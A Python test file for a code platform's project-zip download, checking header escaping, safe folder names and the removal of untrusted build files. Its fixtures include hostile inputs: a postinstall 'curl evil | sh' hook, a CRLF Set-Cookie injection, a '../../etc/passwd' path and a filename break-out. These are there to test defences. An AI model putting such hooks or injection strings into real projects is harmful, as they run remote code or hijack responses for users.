"""The download: the project zip as the platform builds it, and its Content-Disposition."""

from __future__ import annotations

import email.message
import email.utils
import io
import json
import re
import urllib.parse
import zipfile

import pytest

from zerocode.apps.records import App, CodeGenType
from zerocode.publishing import toolchain
from zerocode.publishing.download import (
    archive,
    ascii_fallback,
    content_disposition,
    folder,
    project,
)

APP_ID = "a1b2c3d4e5f6g7h8i9j0"


def parse(header: str) -> tuple[str, str]:
    """The header's ASCII ``filename`` and its decoded ``filename*``, read by Python's email
    package (RFC 2231 parameters) and checked against urllib's percent-decoding."""
    msg = email.message.Message()
    msg["Content-Disposition"] = header
    params = msg.get_params(header="content-disposition")
    assert params is not None and params[0] == ("attachment", "")
    assert [k for k, _ in params[1:]] == ["filename", "filename"]  # nothing else got in
    (plain,) = [v for _, v in params[1:] if isinstance(v, str)]
    (extended,) = [v for _, v in params[1:] if isinstance(v, tuple)]
    exact = email.utils.collapse_rfc2231_value(extended)
    raw = re.fullmatch(r'attachment; filename="[^"]*"; filename\*=UTF-8\'\'(\S+)', header)
    assert raw is not None
    assert urllib.parse.unquote(raw.group(1), errors="strict") == exact
    return plain, exact


def check(header: str) -> tuple[str, str]:
    """Plain ASCII, one line, RFC 5987 attr-chars only in filename*: then parsed."""
    assert header.isascii() and header.isprintable()
    assert "\r" not in header and "\n" not in header
    value = header.split("filename*=UTF-8''", 1)[1]
    assert re.fullmatch(r"[A-Za-z0-9!#$&+\-.^_`|~%]+", value)
    plain, exact = parse(header)
    stem = plain.removesuffix(".zip")
    assert plain.endswith(".zip") and stem and stem == stem.strip()
    assert not set(stem) & set('"\\;%/\r\n')
    return plain, exact


@pytest.mark.parametrize(
    "name",
    [
        "做一个番茄钟网页",  # Chinese: the name that made the route answer 500
        "番茄钟 🍅",
        "🍅🍅🍅",
        "👩‍💻 Coder's desk",  # an emoji ZWJ sequence stays whole
        "مؤقت بومودورو",  # Arabic, right to left
        "טיימר עגבניות",  # Hebrew, right to left
        "Tomato timer עגבניות 123",  # left to right and right to left mixed
    ],
)
def test_non_latin_names_travel_exactly_with_an_ascii_fallback(name: str) -> None:
    plain, exact = check(content_disposition(name, default=APP_ID))
    assert exact == f"{name}.zip"
    ascii_part = " ".join(re.sub(r"[^A-Za-z0-9' ]+", " ", name).split())
    assert plain == f"{ascii_part or APP_ID}.zip"


def test_the_fallback_is_the_app_id_when_nothing_ascii_remains() -> None:
    for name in ("做一个番茄钟网页", "🍅", "مؤقت", "---", "...", '"";;\\'):
        plain, _ = check(content_disposition(name, default=APP_ID))
        assert plain == f"{APP_ID}.zip"
    assert check(content_disposition("", default=APP_ID)) == (f"{APP_ID}.zip", f"{APP_ID}.zip")
    # Even a default with nothing usable gives a file name, never an empty one.
    assert check(content_disposition("", default="☃"))[0] == "download.zip"


def test_accents_fold_to_ascii_in_the_fallback() -> None:
    assert check(content_disposition("Café crème", default=APP_ID)) == (
        "Cafe creme.zip",
        "Café crème.zip",
    )


def test_quotes_semicolons_and_backslashes_cannot_break_out() -> None:
    name = 'Say "hi"; filename="evil.exe" \\ 100%'
    plain, exact = check(content_disposition(name, default=APP_ID))
    assert plain == "Say hi filename evil.exe 100.zip"
    assert exact == f"{name}.zip"


def test_line_breaks_cannot_inject_a_header() -> None:
    header = content_disposition("Tea\r\nSet-Cookie: a=b\r\n\r\n<html>", default=APP_ID)
    plain, exact = check(header)
    assert "Set-Cookie:" not in header.split("filename*=", 1)[0].replace(" ", "")
    assert exact == "Tea Set-Cookie: a=b <html>.zip"  # controls became spaces, collapsed
    assert plain == "Tea Set-Cookie a b html.zip"


def test_bidi_controls_and_lone_surrogates_are_dropped() -> None:
    # U+202E would show "txt.exe" reversed; a lone surrogate is not UTF-8 at all.
    _, exact = check(content_disposition("invoice\u202eexe.txt\ud800", default=APP_ID))
    assert exact == "invoiceexe.txt.zip"


def test_very_long_names_are_bounded() -> None:
    header = content_disposition("番茄" * 5000 + "x" * 5000, default=APP_ID)
    _, exact = check(header)
    assert len(header) < 2000
    assert exact == "番茄" * 100 + ".zip"  # the first 200 characters
    long_ascii = check(content_disposition("a" * 10_000, default=APP_ID))
    assert len(long_ascii[0]) == 80 + len(".zip")


def test_ascii_fallback() -> None:
    assert ascii_fallback("  .hidden.  ") == "hidden"
    assert ascii_fallback("a/b:c*d?e<f>g|h") == "a b c d e f g h"
    assert ascii_fallback("ﬁne") == "fine"  # compatibility forms fold too
    assert ascii_fallback("") == ascii_fallback("-- --") == ""


def unzipped(data: bytes) -> tuple[str, dict[str, bytes]]:
    """A download's one top-level folder and its files by path under it (other tests read
    zips through this)."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    tops = {n.split("/", 1)[0] for n in zf.namelist()}
    assert len(tops) == 1 and all("/" in n for n in zf.namelist()), zf.namelist()
    return tops.pop(), {n.split("/", 1)[1]: zf.read(n) for n in zf.namelist()}


def make_app(kind: CodeGenType, name: str = "番茄钟") -> App:
    return App(id=APP_ID, owner="u1", name=name, code_gen_type=kind, init_prompt="p")


VUE_FILES = {
    "index.html": b'<div id="app"></div><script type="module" src="/src/main.js"></script>',
    "src/main.js": b"import { createApp } from 'vue'\n",
    "src/App.vue": b"<template><p>hi</p></template>\n",
    # The app's own build configuration and a secret: none of it reaches the zip.
    "package.json": b'{"scripts": {"postinstall": "curl evil | sh"}, "dependencies": '
    b'{"vue": "3.5.45", "pinia": "3.0.4", "left-pad": "1.0.0"}}',
    "vite.config.js": b"export default { plugins: [evil()] }",
    "package-lock.json": b"{}",
    ".env": b"SECRET=1",
    "tailwind.config.js": b"module.exports = {}",
}


def test_a_vue_project_is_the_build_tree_with_the_platforms_build_files() -> None:
    tree = project(make_app(CodeGenType.VUE_PROJECT), VUE_FILES)
    built = toolchain.build_tree(VUE_FILES)
    assert set(tree) == {*built, "package-lock.json", "README.md"}
    assert not {".env", "tailwind.config.js"} & set(tree)
    assert tree["vite.config.js"] == toolchain.vite_config()
    assert tree["package-lock.json"] == toolchain.manifest()["package-lock.json"]
    assert tree[".zerocode/tsconfig.json"] == built[".zerocode/tsconfig.json"]
    package = json.loads(tree["package.json"])
    # The build's own package.json, plus the platform's scripts so `npm run build` works.
    assert package == {**json.loads(built["package.json"]), "scripts": toolchain.PLATFORM_SCRIPTS}
    assert package["dependencies"] == {"vue": "3.5.45", "pinia": "3.0.4"}
    assert all(tree[p] == VUE_FILES[p] for p in ("index.html", "src/main.js", "src/App.vue"))
    readme = tree["README.md"].decode()
    assert readme.startswith("# 番茄钟\n") and "npm ci && npm run build" in readme
    assert "`dist/`" in readme


@pytest.mark.parametrize(
    ("kind", "pages"),
    [
        (CodeGenType.HTML, {"index.html"}),
        (CodeGenType.MULTI_FILE, {"index.html", "style.css", "script.js"}),
    ],
)
def test_a_static_project_is_its_page_files_and_a_readme(
    kind: CodeGenType, pages: set[str]
) -> None:
    """Nothing but the page files its answers carry: no package.json with scripts (it would
    run at the builder's `npm install`), no other file a workspace may hold from before."""
    files = {
        "index.html": b"<h1>hi</h1>",
        "style.css": b"h1{}",
        "script.js": b"1",
        "package.json": b'{"scripts": {"postinstall": "node evil.js"}}',
        "evil.js": b"require('fs').writeFileSync('marker', '')",
    }
    tree = project(make_app(kind, "Tea"), files)
    assert tree == {**{p: files[p] for p in pages}, "README.md": tree["README.md"]}
    readme = tree["README.md"].decode()
    assert readme.startswith("# Tea\n") and "index.html" in readme and "npm " not in readme
    left_out = readme.split("## Left out", 1)[1]
    assert all(f"- `{p}`" in left_out for p in set(files) - pages)
    assert not any(f"- `{p}`" in left_out for p in pages)


def test_a_vue_apps_own_readme_stays_and_the_platforms_goes_beside_it() -> None:
    tree = project(make_app(CodeGenType.VUE_PROJECT), {**VUE_FILES, "README.md": b"mine"})
    assert tree["README.md"] == b"mine" and tree["BUILDING.md"].startswith(b"# ")


def test_the_archive_is_deterministic() -> None:
    app = make_app(CodeGenType.VUE_PROJECT)
    first = archive(app, VUE_FILES)
    assert archive(app, dict(reversed(list(VUE_FILES.items())))) == first
    zf = zipfile.ZipFile(io.BytesIO(first))
    names = zf.namelist()
    assert names == sorted(names)
    tree = project(app, VUE_FILES)
    assert names == [f"{APP_ID}/{p}" for p in sorted(tree)]  # "番茄钟" has no ASCII: the id
    assert {n: zf.read(n) for n in names} == {f"{APP_ID}/{p}": d for p, d in tree.items()}
    for info in zf.infolist():
        assert info.date_time == (1980, 1, 1, 0, 0, 0)
        assert info.external_attr >> 16 == 0o100644


@pytest.mark.parametrize(
    ("name", "top"),
    [
        ("Todo App", "todo-app"),
        ("待办事项 ✅ Todos", "todos"),
        ("Café crème", "cafe-creme"),
        ("../../etc/passwd", "etc-passwd"),
        ("  .hidden  ", "hidden"),
        ('Tea "time"; now\r\n', "tea-time-now"),
        ("番茄钟", APP_ID),
        ("🍅 --- 🍅", APP_ID),
        ("a" * 300, "a" * 60),
        ("x" * 59 + " y", "x" * 59),  # cut at 60, no dangling "-"
    ],
)
def test_the_zip_is_one_folder_named_after_the_app(name: str, top: str) -> None:
    """Unzipping makes one folder, never files in the current directory; its name is a safe
    ASCII slug (no dot at its start, no separator, no quote), or the app id."""
    app = make_app(CodeGenType.MULTI_FILE, name)
    assert folder(app) == top
    zf = zipfile.ZipFile(io.BytesIO(archive(app, {"index.html": b"<h1>hi</h1>"})))
    assert {n.split("/", 1)[0] for n in zf.namelist()} == {top}
    assert sorted(n.split("/", 1)[1] for n in zf.namelist()) == ["README.md", "index.html"]
    readme = zf.read(f"{top}/README.md").decode()
    assert f"the folder `{top}/`" in readme and f"cd {top} && python3" in readme


def test_a_vue_readme_says_where_to_build_and_what_dev_prints() -> None:
    app = make_app(CodeGenType.VUE_PROJECT, "Todo App")
    readme = project(app, VUE_FILES)["README.md"].decode()
    assert "    cd todo-app\n    npm ci && npm run build\n" in readme
    assert "npm run dev" in readme and "prints its address" in readme


def test_the_downloaded_config_logs_as_vite_does_and_platform_builds_stay_quiet() -> None:
    """The download's vite.config.js sets no logLevel (so `npm run dev` prints its URL and
    `npm run build` its files); the platform's builds pass --logLevel warn themselves."""
    lines = toolchain.vite_config().decode().splitlines()
    assert not [line for line in lines if line.strip().startswith("logLevel")]
    assert toolchain.VITE_ARGS[-2:] == ("--logLevel", "warn")
    assert b"'--logLevel', 'warn'" in toolchain.runner()  # the prepared box's run, the same
